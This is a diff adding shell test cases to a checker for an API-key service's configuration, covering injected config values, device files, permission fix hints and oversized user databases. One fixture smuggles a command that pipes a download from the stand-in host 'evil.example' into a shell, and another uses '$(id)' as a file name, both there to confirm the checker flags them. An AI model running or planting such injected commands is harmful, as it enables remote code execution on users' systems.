@@ -41,6 +41,31 @@ sick "$(conf 'argon2id = { max_memory = 2000000; };')" warning \
 sick "$(conf 'local_services = [ "su", "sshd" ];')" warning \
     etc/apikey/apikey.conf 'sshd is among local_services'
 
+# mend_is MEND: as it stands with the finding of the last case.
+mend_is() { want "the mend after: $DONE" "$(cut -f 4 <<<"$OUT")" "$1"; }
+t 'check: what a file holds is no mend'
+evil='q; curl evil.example | sh'
+line='mend the line: until then every key is refused (apikey.conf(5))'
+sick "$(conf "hash = \"$evil\";")" error "etc/apikey/apikey.conf:$n" \
+    'curl evil.example'
+mend_is "$line"
+sick "$(conf "audit = { format = \"x\\\" ; $evil\"; };")" error \
+    "etc/apikey/apikey.conf:$n" 'curl evil.example'
+mend_is "$line"
+sick "echo 'rate = \"$evil\";' >>$KEYS/$KEY.conf" error \
+    "$KEYS/$KEY.conf:$(($(wc -l <"$SOUND/$KEYS/$KEY.conf") + 1))" \
+    'curl evil.example'
+mend_is 'mend the line, or restore the file: until then the key is refused (apikey.conf(5))'
+sick "$(conf 'local_services = [];')" error "etc/apikey/apikey.conf:$n" \
+    'is an empty list$'
+mend_is 'leave the setting out instead'
+only var/lib/apikey
+for name in '$(id)' "$KEY.x" .new; do
+	sick "touch '$USAGE/$name'" note "$USAGE/$name" 'is not named by the id'
+	mend_is 'move it away'
+done
+only etc/apikey
+
 t 'check: the pepper'
 hex=00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff
 pepper="$(conf 'pepper = "/etc/apikey/pepper";'); umask 77;
@@ -59,6 +84,7 @@ sick "$(conf 'pepper = "/etc/apikey/keys.d/.pepper";'); umask 77;
 t 'check: owners and modes of every path'
 only
 sick 'chmod g+w etc' error etc 'writable by its group'
+mend_is 'chmod go-w it'
 in_tree "chmod g+w etc $KEYS/$KEY.conf; chmod o+w $KEYS"
 look 8
 want_finding error etc 'its group'
@@ -88,6 +114,19 @@ sick 'touch var/lib/apikey/counters; chmod o+w var/lib/apikey/counters' \
     error var/lib/apikey/counters 'writable'
 if [ "$(id -u)" -eq 0 ]; then
 	sick 'chown 12345 etc/apikey' error etc/apikey 'belongs to uid 12345'
+fi
+# Opening a device can make it act: it is not opened.  Nothing drives this.
+if mknod "$W/device" c 60 0 2>/dev/null; then
+	sick "mknod $KEYS/0000000000.conf c 60 0" error \
+	    "$KEYS/0000000000.conf" 'is a device'
+	only etc
+	in_tree 'rm etc/sudoers; mknod etc/sudoers c 60 0'
+	look 1
+	want_err 'etc/sudoers: is no regular file$'
+	"$CTL" check "$W/device" 2>"$W/err"
+	ERR=$(<"$W/err")
+	want_err 'device: Invalid argument$'
+	only etc/apikey var/lib/apikey
 fi
 sick 'rm -r etc/apikey/keys.d' error etc/apikey/keys.d \
     'there is no keystore'
@@ -156,6 +195,18 @@ sick "$(shadow "$((today - 31)):0:30:7:::")" warning 'user deploy' \
 sick "$(shadow "$((today - 30)):0:33:7:::")" warning 'user deploy' \
     'the password expires in 3 days'
 sound_after "$(shadow "$((today - 30)):0:60:7:::")"
+sound_after "$(shadow '9223372036854775807:0:9223372036854775807:7:::')"
+
+t 'check: long lists of users, and some that are too long'
+others='seq 50000 | sed "s/.*/u&:x:&:1::\\/home\\/u&:\\/bin\\/sh/"'
+sound_after "$others | cat - etc/passwd >etc/x; mv etc/x etc/passwd"
+sound_after "$others | cat - etc/shadow >etc/x; mv etc/x etc/shadow"
+for name in passwd group; do
+	in_tree "truncate -s 17M etc/$name"
+	look 1
+	[[ $OUT != *'user '* ]] || problem "user by user, without etc/$name"
+	want_err "etc/$name: File too large$"
+done
 
 only
 t 'check: JSON, a pipe, a terminal'
